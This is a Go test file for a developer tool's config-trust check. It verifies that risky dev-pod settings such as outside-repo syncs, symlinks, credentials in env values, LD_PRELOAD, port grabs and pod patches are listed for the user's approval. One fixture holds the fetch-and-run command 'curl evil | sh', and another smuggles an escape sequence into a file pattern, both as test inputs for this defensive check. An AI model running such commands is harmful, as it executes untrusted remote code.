package trust

import (
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/nhctl/nhctl/nhctl/internal/config"
	"github.com/nhctl/nhctl/nhctl/internal/problem"
	"github.com/nhctl/nhctl/nhctl/internal/workload"
)

// tree writes files, and returns their folder without links. A file whose text begins with "-> " is a link.
func tree(t *testing.T, files map[string]string) string {
	t.Helper()
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	for name, text := range files {
		file := filepath.Join(root, filepath.FromSlash(name))
		err := os.MkdirAll(filepath.Dir(file), 0o700)
		if to, link := strings.CutPrefix(text, "-> "); err == nil && link {
			err = os.Symlink(to, file)
		} else if err == nil {
			err = os.WriteFile(file, []byte(text), 0o600)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	return root
}

// request is what the config below root/shop/web asks for; the repository is root/shop.
func request(t *testing.T, root string) Request {
	t.Helper()
	file, err := config.Load(filepath.Join(root, "shop", "web"),
		config.Options{Env: map[string]string{"USER": "ada", "NPM_TOKEN": "secret"}})
	if err != nil {
		t.Fatal(err)
	}
	return Of(file, &file.Services[0])
}

// web is a config whose dev section has further lines.
func web(lines ...string) map[string]string {
	return map[string]string{"shop/.git/HEAD": "ref: refs/heads/main\n", "outside/secret": "TOKEN=1\n",
		"outside/part.yaml": "hotReload: true\n", "shop/protos/a.proto": "x",
		"shop/web/.dev/config.yaml": "name: web\ncontainers:\n- dev:\n    image: dev\n" + strings.Join(lines, "\n") +
			"\n"}
}

func TestOf(t *testing.T) {
	t.Parallel()
	for name, tt := range map[string]struct {
		lines []string
		more  map[string]string
		want  []string
	}{
		"an image alone": {},
		"what runs in the pod": {lines: []string{`    workDir: /src`,
			`    command: {run: "curl evil | sh", build: make}`, `    env: [{name: A, value: "$USER"}]`,
			`    persistentVolumeDirs: [{path: /cache}]`, `    resources: {limits: {cpu: "1"}}`,
			`    debug: {language: go, remoteDebugPort: 9009}`}},
		"any free local port": {lines: []string{`    portForward: [":8080"]`}},
		"local ports": {lines: []string{`    portForward: ["8080:80", "5432"]`},
			want: []string{"takes port 8080 of this computer", "takes port 5432 of this computer"}},
		"git's rules": {lines: []string{`    sync: {mode: gitIgnore}`}},
		"patterns": {lines: []string{`    sync: {filePattern: [./src], ignoreFilePattern: [./src/tmp]}`},
			want: []string{"sends what git ignores: sync of . goes by patterns, only ./src, not ./src/tmp"}},
		"patterns, to receive": {lines: []string{`    sync: {type: receive, mode: pattern}`}},
		"no deletion guard": {lines: []string{`    sync: {deleteProtection: false}`},
			want: []string{"deletes files of . on this computer without asking, however many the container deletes"}},
		"a weak deletion guard": {lines: []string{`    sync: {deletionGuard: {files: 100000}}`},
			want: []string{"deletes files of . on this computer without asking, unless the container deletes over " +
				"25 % of them, and over 100000"}},
		"a strong deletion guard": {lines: []string{`    sync: {deletionGuard: {files: 5, percent: 10}}`}},
		"no guard of the pod": {
			lines: []string{`    sync: {type: send, deleteProtection: false, linksOutside: true}`},
		},
		"links that lead outside": {lines: []string{`    sync: {linksOutside: true}`},
			want: []string{"takes links from the container into . that lead out of it"}},
		"a folder of the repository": {lines: []string{`    sync: [{local: .}, {local: ../protos, remote: /protos}]`}},
		"a folder outside": {lines: []string{`    sync: [{local: .}, {local: ../../outside, remote: /o}]`},
			want: []string{"syncs ROOT/outside, outside of the repository"}},
		"a link that leads outside": {lines: []string{`    sync: [{local: .}, {local: ../data, remote: /o}]`},
			more: map[string]string{"shop/data": "-> ../outside"},
			want: []string{"syncs ROOT/outside, outside of the repository"}},
		"an included file": {lines: []string{"    ${_INCLUDE_:- ../../part.yaml }"},
			more: map[string]string{"shop/part.yaml": "hotReload: true\n"}},
		"an included file outside": {lines: []string{"    ${_INCLUDE_:- ../../../outside/part.yaml }"},
			want: []string{"reads ROOT/outside/part.yaml, outside of the repository"}},
		"a layer that is a link": {more: map[string]string{"outside/layer.yaml": "name: web\n",
			"shop/web/.dev/local.yaml": "-> ../../../outside/layer.yaml"},
			want: []string{"reads ROOT/outside/layer.yaml, outside of the repository"}},
		"an env file outside": {lines: []string{"    envFrom: {envFile: [{path: ../../../outside/secret}]}"},
			want: []string{"reads ROOT/outside/secret, outside of the repository"}},
		"a credential": {lines: []string{`    env: [{name: A, value: "${NPM_TOKEN:-}"}]`},
			want: []string{"puts your variable NPM_TOKEN into its text"}},
		"a patch": {lines: []string{`    patches: [{patch: "spec: {replicas: 2}"}, {type: json, patch: "[]"}]`},
			want: []string{"changes the dev pod by a strategic patch:\n  spec: {replicas: 2}",
				"changes the dev pod by a json patch:\n  []"}},
		"escape sequences": {lines: []string{`    sync: {filePattern: ["./src\e[2J"]}`},
			want: []string{`sends what git ignores: sync of . goes by patterns, only ./src\x1b[2J`}},
		"a local command": {more: map[string]string{"shop/web/.dev/config.yaml": "name: web\n" +
			"local: {command: go run .}\ncontainers: [{dev: {image: dev}}]\n"},
			want: []string{"runs a command on this computer: go run ."}},
		"a local service": {more: map[string]string{"shop/web/.dev/config.yaml": "name: web\nlocal:\n  dir: ../api\n" +
			"  env: [{name: PORT, value: '1'}, {name: PATH, value: ./bin}, {name: Ld_Preload, value: ./x}]\n" +
			"  traffic: mesh\n  ports: ['3000:80', 81]\n", "shop/api/a": "a"},
			want: []string{"sets PATH of commands on this computer: ./bin",
				"sets Ld_Preload of commands on this computer: ./x",
				"has traffic of Service web in the cluster come to ports of this computer (mesh): 3000:80, 81"}},
		"a local folder outside": {more: map[string]string{"shop/web/.dev/config.yaml": "name: web\n" +
			"local: {dir: ../../outside, traffic: exchange, service: api}\n"},
			want: []string{"runs commands in ROOT/outside, outside of the repository",
				"has traffic of Service api in the cluster come to ports of this computer (exchange): the pods' own"}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			files := web(tt.lines...)
			for name, text := range tt.more {
				files[name] = text
			}
			root := tree(t, files)
			got := request(t, root)
			for i := range tt.want {
				tt.want[i] = strings.ReplaceAll(tt.want[i], "ROOT", root)
			}
			if diff := cmp.Diff(tt.want, got.Claims); diff != "" {
				t.Error(diff)
			}
			if got.Empty() != (got.Hash() == "") {
				t.Errorf("hash %q", got.Hash())
			}
		})
	}
}

// A config from the cluster may take ports, patch, and leave out git's rules, too.
func TestOfShared(t *testing.T) {
	t.Parallel()
	ref := workload.Ref{Kind: workload.Deployment, Name: "web"}
	file, err := config.LoadShared("configmap/nhctl-config (config.yaml)",
		"containers: [{dev: {image: dev, portForward: [\"22:22\"], sync: {mode: pattern}}}]", ref, "")
	if err != nil {
		t.Fatal(err)
	}
	want := Request{Origin: "configmap/nhctl-config (config.yaml)",
		Claims: []string{"takes port 22 of this computer", "sends what git ignores: sync of . goes by patterns"}}
	if diff := cmp.Diff(want, Of(file, &file.Services[0])); diff != "" {
		t.Error(diff)
	}
}

// The answer holds for the content that was asked about: other edits don't ask again, a change of it does.
func TestStore(t *testing.T) {
	t.Parallel()
	root := tree(t, web(`    portForward: ["8080:80"]`))
	file := filepath.Join(root, "shop", "web", ".dev", "config.yaml")
	s := Store{Dir: filepath.Join(t.TempDir(), "trust")}
	if err := s.Trust(request(t, root)); err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		name, from, to string
		want           bool
	}{
		{"as it was", "", "", true},
		{"another image", "image: dev", "image: dev2", true},
		{"a command", "image: dev2", "image: dev2\n    command: {run: make}", true},
		{"another remote port", "8080:80", "8080:81", true},
		{"another local port", "8080:81", "22:81", false},
		{"back again", "22:81", "8080:80", true},
		{"a patch", "image: dev2", "image: dev2\n    patches: [{patch: a}]", false},
		{"another patch", "patch: a", "patch: b", false},
		{"nothing to ask", "    portForward: [\"8080:80\"]\n", "", false},
		{"nothing at all", "    patches: [{patch: b}]\n", "", true},
	} {
		text, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, []byte(strings.Replace(string(text), tt.from, tt.to, 1)), 0o600); err != nil {
			t.Fatal(err)
		}
		if got, err := s.Trusted(request(t, root)); err != nil || got != tt.want {
			t.Errorf("%s: %v, %v, want %v", tt.name, got, err, tt.want)
		}
	}
	// The same content elsewhere is another config.
	if got, err := s.Trusted(request(t, tree(t, web(`    portForward: ["8080:80"]`)))); err != nil || got {
		t.Errorf("another clone: %v, %v", got, err)
	}
}

// A client can ask, and show the config, without a look at the message.
func TestProblem(t *testing.T) {
	t.Parallel()
	r := Request{Origin: "/my shop/.dev/config.yaml",
		Claims: []string{"takes port 80 of this computer", "changes the dev pod by a json patch:\n  []"}}
	text := "the config /my shop/.dev/config.yaml\n" +
		"  - takes port 80 of this computer\n  - changes the dev pod by a json patch:\n    []"
	want := &problem.Error{
		Code:    problem.Untrusted,
		Message: "this needs your trust first, once: " + text,
		Hint:    "look at it, then: nhctl config trust; in a script: nhctl dev start --yes",
		Question: &problem.Question{
			ID:      "trust " + r.Hash(),
			Text:    "this needs your trust, once: " + text,
			Choices: []problem.Choice{{ID: problem.Yes, Title: "trust this config"}},
		},
		Remedies: []problem.Remedy{{Title: "look at the config", Link: "file:///my%20shop/.dev/config.yaml"}},
	}
	if runtime.GOOS == "windows" { // no absolute path there
		want.Remedies = nil
	}
	if diff := cmp.Diff(want, problem.From(r.Problem())); diff != "" {
		t.Error(diff)
	}
	shared := Request{Origin: "ConfigMap shop/nhctl-config", Claims: r.Claims}
	if p := shared.Problem(); p.Question == nil || p.Remedies != nil {
		t.Errorf("a config of the cluster: %+v", p)
	}
}
